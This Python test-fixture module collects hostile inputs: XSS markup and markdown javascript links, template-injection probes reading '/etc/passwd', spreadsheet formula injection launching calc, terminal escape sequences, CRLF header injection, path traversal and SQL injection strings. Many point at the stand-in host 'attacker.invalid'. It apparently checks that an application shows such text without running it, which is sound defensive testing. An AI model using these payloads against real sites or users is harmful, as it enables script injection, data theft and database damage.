"""What an attacker writes wherever text is taken in: each must be shown, and none may act.

`MARK` is what every payload would put into the title of the page if it ran, `HOST` where every
payload would call.
"""

MARK = "hostile-text-ran"
HOST = "attacker.invalid"
_RUN = f"document.title='{MARK}'"

MARKUP = (
    f"<script>{_RUN}</script>",
    f'<img src=x onerror="{_RUN}">',
    f'<svg onload="{_RUN}"><foreignObject><body onload="{_RUN}"></body></foreignObject></svg>',
    f'<svg><a xlink:href="javascript:{_RUN}"><text y=20>x</text></a><use href="//{HOST}/u"/></svg>',
    f'<svg><image href="https://{HOST}/i"/><style>@import "//{HOST}/s";</style></svg>',
    f'<math><maction actiontype="statusline" xlink:href="javascript:{_RUN}">press</maction></math>',
    f'<iframe src="https://{HOST}/" srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f'<object data="https://{HOST}/o"></object><embed src="https://{HOST}/e">',
    f'<form action="https://{HOST}/"><button formaction="javascript:{_RUN}">Save</button></form>',
    f'<link rel="stylesheet" href="//{HOST}/c"><link rel=prefetch href="//{HOST}/p">',
    f'<link rel=dns-prefetch href="//{HOST}"><link rel=preconnect href="//{HOST}">',
    f'<meta http-equiv="refresh" content="0;url=https://{HOST}/">',
    f'<base href="https://{HOST}/">',
    f'<div hx-get="/" hx-trigger="load" hx-on:load="{_RUN}" hx-on::load=\'{_RUN}\'>x</div>',
    f'<div data-hx-get="//{HOST}/" data-hx-trigger="load">x</div>',
    f'<div data-chart="//{HOST}/v"></div>',
    f"<style>body{{background:url(//{HOST}/b)}}</style><p style='background:url(//{HOST}/b)'>x</p>",
    f"<video poster=//{HOST}/v><source src=//{HOST}/v onerror={_RUN}></video>",
    f"<details open ontoggle={_RUN}>x</details><input autofocus onfocus={_RUN}>",
    f"</textarea></title></style></script></noscript></template><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f'"><b id=\'escaped\' onmouseover="{_RUN}">bold</b>',
    f"'><b id='escaped' onmouseover='{_RUN}'>bold</b>",
    f"x onfocus={_RUN} autofocus tabindex=1 ",
    f"`${{{_RUN}}}`<plaintext>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
)
MARKDOWN = (
    f"[press me](javascript:{_RUN})",
    f"[press me](&#106;avascript&colon;{_RUN})",
    "[press me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[press me](//{HOST}/protocol-relative) <https://{HOST}/auto> https://{HOST}/bare www.{HOST}",
    "[press me](https://xn--80ak6aa92e.com/) https://аррӏе.com/",
    f"![pixel](https://{HOST}/pixel.png) ![p]( //{HOST}/p )",
    f"![d](data:image/svg+xml,<svg/onload={_RUN}>)",
    f"[ref][r]\n\n[r]: javascript:{_RUN} 'title'",
    f'```mermaid\ngraph LR; A-->B; click A "javascript:{_RUN}"\n```',
    f"$\\href{{javascript:{_RUN}}}{{x}}$ $$\\unicode{{<img src=x onerror={_RUN}>}}$$",
    f"| a |\n|---|\n| <img src=//{HOST}/t> |",
)
TEMPLATES = (
    "{{ 7 * 7 }} ${7 * 7} #{7*7} <%= 7*7 %> {% raw %}{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    f"datum.x] + (window.{_RUN}) + [ \\",
    f"'; event.view.open('https://{HOST}/'); '",
)
FORMULAS = (
    f'=HYPERLINK("https://{HOST}/","open")',
    f'=WEBSERVICE("https://{HOST}/")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
)
CHARACTERS = (
    "\u202egnp.exe\u202c \u200bzero\u200dwidth\ufeff \u0301\u0302 \U000e0041",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J",
    f"\x1b]8;;https://{HOST}/\x1b\\link\x1b]8;;\x1b\\",
    "bell \x07 back \x08\x08\x08 form\x0c line\u2028para\u2029 \x85",
    "a\r\nSet-Cookie: faultbook_session=stolen\r\n\r\n<html>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%00",
    "' OR 1=1 --",
    '"; DROP TABLE trace; --',
    '" OR * NEAR(',
)
PAYLOADS = (*MARKUP, *MARKDOWN, *TEMPLATES, *FORMULAS, *CHARACTERS)
TEXT = "\n\n".join(PAYLOADS)
POLYGLOT = f"jaVasCript:/*`/*'/*\"/**/({_RUN})//\"'><img src=//{HOST}/q onerror={_RUN}>"
"""Breaks out of most places at once."""


def payload(number: int) -> str:
    """Return one of the payloads, whatever the number."""
    return PAYLOADS[number % len(PAYLOADS)]
